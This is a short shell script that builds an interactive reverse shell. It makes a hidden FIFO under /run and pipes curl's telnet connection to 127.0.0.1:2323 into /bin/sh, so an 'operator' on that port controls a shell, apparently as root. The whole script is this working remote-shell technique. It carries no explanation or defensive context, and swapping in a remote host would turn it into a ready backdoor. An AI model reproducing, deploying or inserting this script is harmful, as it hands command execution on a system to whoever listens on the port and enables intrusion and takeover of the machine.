#!/bin/sh
# root: one interactive shell to the operator over curl's telnet protocol
cd /
f=/run/.p11-$$
rm -f "$f"; mkfifo -m 600 "$f"
curl -sN -T . telnet://127.0.0.1:2323 < "$f" | /bin/sh > "$f" 2>&1
rm -f "$f"
